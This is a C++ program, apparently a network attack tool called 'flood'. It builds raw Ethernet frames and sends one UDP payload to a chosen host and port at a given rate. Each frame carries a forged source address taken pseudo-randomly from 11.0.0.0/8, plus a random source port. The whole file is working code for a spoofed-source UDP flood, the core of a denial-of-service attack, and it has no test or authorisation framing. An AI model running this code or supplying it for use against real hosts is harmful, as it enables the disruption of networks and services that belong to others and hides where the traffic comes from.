// Sends one UDP payload over and over from invented IPv4 sources, as Ethernet frames, at a given rate.
//
//   flood DEVICE MAC ADDRESS PORT PER_SECOND SECONDS HEX        prints how many were sent
//
// No source comes twice in a row: sources are 11.0.0.0 to 11.255.255.255, in a pseudo-random order. UDP's checksum is left out.
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sys/socket.h>

#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <thread>
#include <vector>

namespace {

constexpr int BATCH = 64;

std::vector<unsigned char> from_hex(const std::string& text) {
  std::vector<unsigned char> bytes;
  for (size_t i = 0; i + 1 < text.size(); i += 2) bytes.push_back(static_cast<unsigned char>(std::stoi(text.substr(i, 2), nullptr, 16)));
  return bytes;
}

uint16_t header_sum(const iphdr& header) {
  uint16_t words[sizeof(iphdr) / 2];
  std::memcpy(words, &header, sizeof words);
  uint32_t sum = 0;
  for (const uint16_t word : words) sum += word;
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >> 16);
  return static_cast<uint16_t>(~sum);
}

struct Frame {
  ether_header ethernet;
  iphdr ip;
  udphdr udp;
} __attribute__((packed));

}  // namespace

int main(int count, char** arguments) {
  if (count != 8) return std::fputs("flood DEVICE MAC ADDRESS PORT PER_SECOND SECONDS HEX\n", stderr), 2;
  const std::vector<unsigned char> payload = from_hex(arguments[7]);
  Frame head{};
  if (std::sscanf(arguments[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &head.ethernet.ether_dhost[0], &head.ethernet.ether_dhost[1],
                  &head.ethernet.ether_dhost[2], &head.ethernet.ether_dhost[3], &head.ethernet.ether_dhost[4], &head.ethernet.ether_dhost[5]) != 6 ||
      inet_pton(AF_INET, arguments[3], &head.ip.daddr) != 1) {
    return std::fputs("no such place\n", stderr), 2;
  }
  head.ethernet.ether_shost[0] = 2;
  head.ethernet.ether_type = htons(ETHERTYPE_IP);
  head.ip.version = 4;
  head.ip.ihl = 5;
  head.ip.ttl = 64;
  head.ip.protocol = IPPROTO_UDP;
  head.ip.tot_len = htons(static_cast<uint16_t>(sizeof(iphdr) + sizeof(udphdr) + payload.size()));
  head.udp.dest = htons(static_cast<uint16_t>(std::atoi(arguments[4])));
  head.udp.len = htons(static_cast<uint16_t>(sizeof(udphdr) + payload.size()));

  const int fd = socket(AF_PACKET, SOCK_RAW, 0);
  sockaddr_ll to{};
  to.sll_family = AF_PACKET;
  to.sll_ifindex = static_cast<int>(if_nametoindex(arguments[1]));
  to.sll_halen = ETH_ALEN;
  const int bypass = 1;
  if (fd < 0 || to.sll_ifindex == 0) return std::perror("socket"), 1;
  setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &bypass, sizeof bypass);

  std::vector<Frame> heads(BATCH, head);
  std::vector<iovec> pieces(2 * BATCH);
  std::vector<mmsghdr> messages(BATCH);
  for (int i = 0; i < BATCH; i++) {
    pieces[2 * i] = {&heads[i], sizeof(Frame)};
    pieces[2 * i + 1] = {const_cast<unsigned char*>(payload.data()), payload.size()};
    messages[i] = {};
    messages[i].msg_hdr.msg_name = &to;
    messages[i].msg_hdr.msg_namelen = sizeof to;
    messages[i].msg_hdr.msg_iov = &pieces[2 * i];
    messages[i].msg_hdr.msg_iovlen = 2;
  }

  using Clock = std::chrono::steady_clock;
  const double rate = std::atof(arguments[5]);
  const auto start = Clock::now();
  const auto end = start + std::chrono::duration<double>(std::atof(arguments[6]));
  uint32_t state = 1;
  unsigned long sent = 0;
  for (auto now = start; now < end; now = Clock::now()) {
    const double due = std::chrono::duration<double>(now - start).count() * rate;
    if (static_cast<double>(sent) > due) {
      std::this_thread::sleep_for(std::chrono::microseconds(50));
      continue;
    }
    for (Frame& frame : heads) {
      state = state * 1664525 + 1013904223;
      frame.ip.saddr = htonl(0x0b000000 | state >> 8);
      frame.udp.source = htons(static_cast<uint16_t>(1024 + (state & 0x7fff)));
      frame.ip.check = 0;
      frame.ip.check = header_sum(frame.ip);
    }
    const int done = sendmmsg(fd, messages.data(), BATCH, 0);
    if (done > 0) sent += static_cast<unsigned long>(done);
  }
  std::printf("%lu\n", sent);
}
